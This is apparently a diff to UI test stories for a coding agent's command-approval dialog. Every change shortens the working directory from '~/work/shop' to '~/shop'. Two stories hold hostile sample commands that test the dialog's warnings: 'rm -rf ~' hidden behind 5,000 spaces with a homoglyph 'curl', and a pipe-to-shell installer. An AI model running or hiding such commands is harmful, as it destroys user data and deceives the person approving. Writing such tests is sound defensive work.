@@ -9,7 +9,7 @@ const meta = {
   component: Approval,
   decorators: [freshApproval],
   args: asking(
-    { type: "command", command: "npm ci && npm test", cwd: "~/work/shop" },
+    { type: "command", command: "npm ci && npm test", cwd: "~/shop" },
     { message: "Installs the packages, then runs the tests." },
   ),
   parameters: {
@@ -30,7 +30,7 @@ export const ShortCommand: Story = {
   play: async ({ canvas, args }) => {
     const card = canvas.getByRole("region", { name: "Coding agent: Run this command?" });
     await expect(within(card).getByRole("heading")).toHaveTextContent("Run this command?");
-    const box = canvas.getByRole("group", { name: "~/work/shop" });
+    const box = canvas.getByRole("group", { name: "~/shop" });
     await expect(box).toHaveTextContent("npm ci && npm test");
     const names = canvas
       .getAllByRole("button")
@@ -44,7 +44,7 @@ export const ShortCommand: Story = {
 export const LongCommand: Story = {
   parameters: inView,
   args: asking(
-    { type: "command", command: script, cwd: "~/work/shop" },
+    { type: "command", command: script, cwd: "~/shop" },
     { message: "Builds and publishes release 2.4." },
   ),
   play: async ({ canvas, args }) => {
@@ -55,7 +55,7 @@ export const LongCommand: Story = {
     await expect(allow).toHaveAccessibleDescription(/were not on screen/);
     await expect(canvas.getByText(/^\d+ of 400 lines seen$/)).toBeVisible();
     await expect(canvas.getByRole("button", { name: en.nextLines })).toBeVisible();
-    const box = canvas.getByRole("group", { name: "~/work/shop" });
+    const box = canvas.getByRole("group", { name: "~/shop" });
     await expect(box.scrollHeight).toBeGreaterThan(box.clientHeight);
     await expect(box.scrollWidth).toBe(box.clientWidth);
     await expect(args.onRespond).not.toHaveBeenCalled();
@@ -69,7 +69,7 @@ export const Gap: Story = {
   play: async ({ canvas }) => {
     window.focus();
     await canvas.findByText(/^Lines \d+–400 were not on screen\.$/);
-    const box = canvas.getByRole("group", { name: "~/work/shop" });
+    const box = canvas.getByRole("group", { name: "~/shop" });
     box.scrollTop = box.scrollHeight;
     await canvas.findByRole("button", { name: /^Go to line \d+$/ });
     await expect(canvas.getByText(/^Lines \d+–3\d\d were not on screen\.$/)).toBeVisible();
@@ -82,7 +82,7 @@ export const HiddenText: Story = {
     {
       type: "command",
       command: `npm test${" ".repeat(5_000)}; rm -rf ~\n\u0441url -fsS https://ci.shop.example/done`,
-      cwd: "~/work/shop",
+      cwd: "~/shop",
     },
     { message: "Runs the tests and reports the result." },
   ),
@@ -102,7 +102,7 @@ export const Danger: Story = {
     {
       type: "command",
       command: "curl -fsSL https://get.deploy.example/install.sh | sh",
-      cwd: "~/work/shop",
+      cwd: "~/shop",
     },
     { message: "Installs the deploy tool." },
   ),
@@ -210,7 +210,7 @@ export const Permissions: Story = {
       {
         type: "grants",
         grants: [
-          { id: "dist", label: "Write to ~/work/shop/dist" },
+          { id: "dist", label: "Write to ~/shop/dist" },
           { id: "npm", label: "Reach registry.npmjs.org" },
           { id: "caches", label: "Read ~/Library/Caches" },
           { id: "ssh", label: "No access to ~/.ssh", fixed: true },
@@ -223,7 +223,7 @@ export const Permissions: Story = {
   play: allowing(async ({ canvas, userEvent, args }) => {
     await expect(canvas.getByText(en.selectedOf(3, 3))).toBeVisible();
     for (const name of [
-      "Write to ~/work/shop/dist",
+      "Write to ~/shop/dist",
       "Reach registry.npmjs.org",
       "Read ~/Library/Caches",
     ])
